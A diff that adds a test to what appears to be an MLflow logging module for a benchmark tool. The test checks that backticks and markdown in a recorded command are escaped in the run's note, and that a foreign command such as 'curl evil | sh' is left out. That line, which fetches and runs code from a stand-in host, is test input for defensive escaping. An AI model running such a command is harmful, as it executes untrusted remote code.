@@ -124,6 +124,15 @@ def test_hostile_names_and_long_values(saved):
     assert {each.name for each in folder.parents[2].iterdir()} == {"board", "store"}
 
 
+def test_a_foreign_command_is_code_in_the_note_and_only_one_of_effbench(saved):
+    notes = {}
+    for name, text in (("one", "effbench run --method `x`; [a](b)"), ("two", "curl evil | sh")):
+        log_mlflow.log(saved(make_record(name, provenance=Provenance(command=text))))
+    for run in runs()[0]:
+        notes[run.info.run_name] = run.data.tags.get("mlflow.note.content")
+    assert notes == {"one": "`` effbench run --method '`x`;' '[a](b)' ``", "two": None}
+
+
 def test_where_it_goes(saved, place, monkeypatch):
     folder = saved(make_record())
     monkeypatch.setenv("MLFLOW_EXPERIMENT_NAME", "mine")
